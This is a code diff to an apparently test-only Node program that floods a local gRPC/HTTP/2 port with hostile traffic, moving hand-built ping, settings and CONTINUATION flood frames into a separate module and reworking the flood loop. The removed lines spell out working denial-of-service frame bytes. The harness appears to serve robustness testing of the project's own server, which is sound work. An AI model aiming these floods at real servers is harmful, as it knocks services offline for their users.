@@ -2,6 +2,7 @@ import { type ClientHttp2Session, type ClientHttp2Stream, connect, constants } f
 import { createConnection } from 'node:net'
 import { setImmediate as nextTurn, setTimeout as pause } from 'node:timers/promises'
 import { gzipSync } from 'node:zlib'
+import { type Begin, FLOODS, PREFACE } from './hostile-floods.ts'
 
 /**
  * A program that attacks a gRPC port until it is killed: `node hostile-client.ts ATTACK PORT TOKEN`. It is a process of
@@ -68,37 +69,6 @@ const STROKES: Readonly<Record<string, Stroke>> = {
     send(open, frame(0, 380 * 1024, Buffer.alloc(380 * 1024)), { authorization: 'Bearer unknown' }),
 }
 
-/** An HTTP/2 frame (RFC 9113 section 4.1), as nobody's library would send it. */
-function http2Frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
-  const head = Buffer.alloc(9)
-  head.writeUIntBE(payload.length, 0, 3)
-  head.writeUInt8(type, 3)
-  head.writeUInt8(flags, 4)
-  head.writeUInt32BE(stream, 5)
-  return Buffer.concat([head, payload])
-}
-
-const PREFACE = Buffer.concat([
-  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
-  http2Frame(4, 0, 0, Buffer.alloc(0)),
-])
-
-/** Bytes that are sent again and again on a connection of their own. */
-const FLOODS: Readonly<Record<string, { readonly first?: Buffer; readonly rest: Buffer }>> = {
-  'a flood of pings': { rest: http2Frame(6, 0, 0, Buffer.alloc(8)) },
-  'a flood of settings': { rest: http2Frame(4, 0, 0, Buffer.alloc(6)) },
-  // HEADERS without END_HEADERS, and CONTINUATION frames that never say it either.
-  'a flood of continuations': {
-    first: http2Frame(1, 0, 1, Buffer.from([0x82, 0x86, 0x84])),
-    rest: http2Frame(
-      9,
-      0,
-      1,
-      Buffer.concat([Buffer.from([0x40, 0x01, 0x78, 0x7f, 0x81, 0x07]), Buffer.alloc(256, 0x78)]),
-    ),
-  },
-}
-
 async function strike(stroke: Stroke, port: number, token: string): Promise<never> {
   for (;;) {
     const session = connect(`http://127.0.0.1:${port}`)
@@ -130,8 +100,7 @@ async function again(session: ClientHttp2Session, stroke: () => Promise<void> | 
   }
 }
 
-async function flood({ first, rest }: { first?: Buffer; rest: Buffer }, port: number): Promise<never> {
-  const many = Buffer.concat(Array.from({ length: 100 }, () => rest))
+async function flood(begin: Begin, port: number, token: string): Promise<never> {
   for (;;) {
     const socket = createConnection(port, '127.0.0.1')
     let isOpen = true
@@ -141,12 +110,14 @@ async function flood({ first, rest }: { first?: Buffer; rest: Buffer }, port: nu
         isOpen = false
       })
     socket.resume()
-    socket.write(first === undefined ? PREFACE : Buffer.concat([PREFACE, first]))
+    socket.write(PREFACE)
+    const next = begin(token)
     while (isOpen) {
-      count += 100
-      const isDrained = socket.write(many)
+      const { bytes, weight } = next()
+      count += weight
+      const isDrained = socket.write(bytes)
       // A peer that reads no more is waited for, as an attacker would.
-      await (isDrained ? nextTurn() : pause(1))
+      await (isDrained && weight > 0 ? nextTurn() : pause(1))
     }
     await pause(RETURN_MS)
   }
@@ -158,7 +129,7 @@ setInterval(() => process.stdout.write(`${count}\n`), 100)
 const floodOf = FLOODS[attack]
 const strokeOf = STROKES[attack]
 for (let nth = 0; nth < SESSIONS; nth++) {
-  if (floodOf !== undefined) void flood(floodOf, Number(port))
+  if (floodOf !== undefined) void flood(floodOf, Number(port), token)
   else if (strokeOf !== undefined) void strike(strokeOf, Number(port), token)
   else throw new Error(`no attack is called ${attack}`)
 }
